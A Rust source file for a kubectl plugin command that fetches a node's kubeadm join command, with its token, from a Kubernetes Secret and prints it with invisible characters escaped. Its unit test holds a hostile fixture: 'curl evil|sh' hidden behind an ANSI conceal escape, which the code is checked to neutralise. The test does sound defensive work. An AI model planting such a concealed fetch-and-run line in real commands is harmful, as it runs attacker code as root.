//! `kubectl njr join-command`: the line with which stock kubeadm carries out a request with delivery Token.

use clap::Args;
use join_checks::terminal::printable;
use join_crds::vocabulary::join_command_secret_name;
use join_crds::{ConditionType, Delivery, NodeJoinRequest, Reason, conditions};
use join_trust::names::NodeName;
use k8s_openapi::api::core::v1::Secret;
use kube::Api;
use zeroize::Zeroizing;

use crate::options::GlobalOptions;
use crate::output;
use crate::session::{CallError, ConnectError, Session};

/// There is no line to print. No variant holds a secret.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// There is no such request.
    #[error(
        "there is no request {0}; make one for stock kubeadm with: kubectl njr create {0} --first-use --delivery token"
    )]
    NoRequest(NodeName),
    /// The request is for our agent.
    #[error(
        "the request {0} has delivery Sealed: join-agent on the machine carries it out, and nobody types anything there; see how far it is with: kubectl njr status {0}"
    )]
    Sealed(NodeName),
    /// There is no line yet, or no more.
    #[error(
        "there is no join command for {name} now: {why}; see how far the request is with: kubectl njr status {name}"
    )]
    NotNow {
        /// The node.
        name: NodeName,
        /// What the request says.
        why: String,
    },
    /// There is no connection to be made.
    #[error(transparent)]
    Connect(#[from] ConnectError),
    /// A call failed.
    #[error(transparent)]
    Call(#[from] CallError),
    /// The result cannot be shown.
    #[error(transparent)]
    Output(#[from] output::Error),
}

/// Arguments of `join-command`.
#[derive(Debug, Args)]
pub struct Arguments {
    /// Name of the request
    #[arg(value_name = "NAME")]
    name: NodeName,
}

/// Prints the line, which holds the token.
pub async fn run(options: &GlobalOptions, arguments: &Arguments) -> Result<(), Error> {
    let session = Session::open(options).await?;
    let name = &arguments.name;
    let requests: Api<NodeJoinRequest> = Api::all(session.client());
    let request = session.call_opt(&format!("read the request {name}"), requests.get(name.as_str())).await?;
    let request = request.ok_or_else(|| Error::NoRequest(name.clone()))?;
    if request.spec.delivery != Delivery::Token {
        return Err(Error::Sealed(name.clone()));
    }
    let secrets: Api<Secret> = Api::namespaced(session.client(), session.namespace());
    let secret = join_command_secret_name(name.as_str());
    let tried = format!("read the Secret {}/{secret}", session.namespace());
    let secret = session.call_opt(&tried, secrets.get(&secret)).await?;
    let command = secret.as_ref().and_then(command);
    let command =
        command.ok_or_else(|| Error::NotNow { name: name.clone(), why: why_not(&request, session.namespace()) })?;
    Ok(output::print(&format!("{}\n", &*command))?)
}

fn command(secret: &Secret) -> Option<Zeroizing<String>> {
    let bytes = secret.data.as_ref()?.get("join-command")?;
    let text = Zeroizing::new(String::from_utf8_lossy(&bytes.0).into_owned());
    // It is typed into a shell as root: nothing that cannot be seen belongs into it.
    Some(Zeroizing::new(printable(text.trim()).into_owned()))
}

/// What the request says of its credential.
fn why_not(request: &NodeJoinRequest, namespace: &str) -> String {
    let conditions = request.status.as_ref().map(|status| status.conditions.as_slice()).unwrap_or_default();
    match conditions::get(conditions, ConditionType::CredentialIssued) {
        Some(condition) if condition.reason == Reason::TokenIssued.as_str() => format!(
            "there is a token, and no Secret with the command in the namespace {namespace}; give the namespace of \
             join-operator with --namespace"
        ),
        Some(condition) => printable(&format!("{} ({})", condition.message, condition.reason)).into_owned(),
        None => "join-controller has not looked at the request yet".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use k8s_openapi::ByteString;

    use super::*;

    #[test]
    fn what_cannot_be_seen_does_not_reach_a_shell() {
        let secret = Secret {
            data: Some(BTreeMap::from([(
                "join-command".to_owned(),
                ByteString(b"kubeadm join x\n\x1b[8mcurl evil|sh\n".to_vec()),
            )])),
            ..Secret::default()
        };
        assert_eq!(*command(&secret).unwrap(), "kubeadm join x\\n\\u{1b}[8mcurl evil|sh");
        assert!(command(&Secret::default()).is_none());
    }

    #[test]
    fn a_request_that_nobody_has_seen_says_so() {
        let spec = serde_json::from_value(serde_json::json!({"machine": {"trust": "FirstUse"}})).unwrap();
        assert!(why_not(&NodeJoinRequest::new("w", spec), "x").contains("not looked at"));
    }
}
